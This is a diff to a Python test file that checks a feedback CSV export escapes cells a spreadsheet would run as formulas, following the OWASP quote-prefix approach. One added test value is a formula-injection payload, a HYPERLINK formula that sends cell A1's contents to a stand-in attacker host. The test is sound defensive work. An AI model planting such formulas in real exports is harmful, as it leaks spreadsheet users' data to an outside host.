@@ -37,6 +37,7 @@ from rag.types import AccessScope
 from tests.conftest import SAMPLE
 
 TRICKY = 'Wrong, "24 days" is old;\nthe policy says 24, not 20.\r\nSee: leave, carry-over'
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "see the policy")'
 KEY = "a-test-export-key-of-some-length"
 
 
@@ -73,6 +74,7 @@ async def seeded(candor: Candor) -> Seeded:
         ("annual-leave", "down", users[0], TRICKY),  # changed its mind: one row, this one
         ("annual-leave", "down", users[2], '"quoted" only'),
         ("pension", "down", None, "should have known\nthis one"),
+        ("pension", "down", users[1], FORMULA),  # a spreadsheet would run it
     ]
     for name, rating, user, comment in votes:
         await candor.record_feedback(Feedback(traces[name], rating, user=user, platform="slack", comment=comment))
@@ -96,6 +98,11 @@ def parse(content: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(content, newline="")))
 
 
+def as_exported(cell: str) -> str:
+    """What a spreadsheet must see: text it would run as a formula starts with a quote (OWASP)."""
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell
+
+
 def keyed(key: bytes, user: str) -> str:
     return hmac.new(key, user.encode(), hashlib.sha256).hexdigest()[:16]
 
@@ -113,11 +120,11 @@ def check_rows(exported: list[dict[str, str]], stored: list[dict[str, Any]], use
         row = by_vote[vote["trace_id"], vote["updated_at"].astimezone(UTC).isoformat()]
         assert datetime.fromisoformat(row["created_at"]) == vote["created_at"]
         assert row["platform"] == vote["platform"]
-        assert row["question"] == vote["question"]
-        assert row["answer"] == vote["answer_text"]
+        assert row["question"] == as_exported(vote["question"])
+        assert row["answer"] == as_exported(vote["answer_text"])
         assert row["route"] == vote["route"]
         assert row["rating"] == {1: "up", -1: "down"}[vote["rating"]]
-        assert row["reason"] == (vote["comment"] or "")
+        assert row["reason"] == as_exported(vote["comment"] or "")
         assert row.get("user") == user(vote["user_id"])
     voted = [datetime.fromisoformat(row["voted_at"]) for row in exported]
     assert voted == sorted(voted)
@@ -131,7 +138,7 @@ async def test_keyed_export_matches_the_stored_rows(candor: Candor, seeded: Seed
     assert tuple(exported[0]) == COLUMNS and count == len(exported)
     stored = await stored_votes(candor, seeded.since, until)
     mine = [row for row in stored if row["trace_id"] in seeded.traces.values()]
-    assert len(mine) == 5  # six votes, one of them replaced
+    assert len(mine) == 6  # seven votes, one of them replaced
     check_rows(exported, stored, lambda user: "" if user is None else keyed(KEY.encode(), user))
     for user in seeded.users:
         value = keyed(KEY.encode(), user)
@@ -149,7 +156,9 @@ async def test_the_changed_vote_and_the_tricky_comment_round_trip(candor: Candor
     mind_changed = [row for row in annual if row["user"] == seeded.users[0]]
     assert len(mind_changed) == 1 and mind_changed[0]["rating"] == "down"
     assert mind_changed[0]["reason"] == TRICKY  # commas, quotes, \n and \r\n unchanged
-    (anonymous,) = [row for row in exported if row["trace_id"] == seeded.traces["pension"]]
+    (formula,) = [row for row in exported if row["reason"].startswith("'=")]
+    assert formula["reason"] == "'" + FORMULA  # shown as text, not run
+    (anonymous,) = [row for row in exported if row["trace_id"] == seeded.traces["pension"] and not row["user"]]
     assert anonymous["user"] == "" and anonymous["reason"] == "should have known\nthis one"
     assert anonymous["route"] == "abstained" and anonymous["platform"] == "web"
 
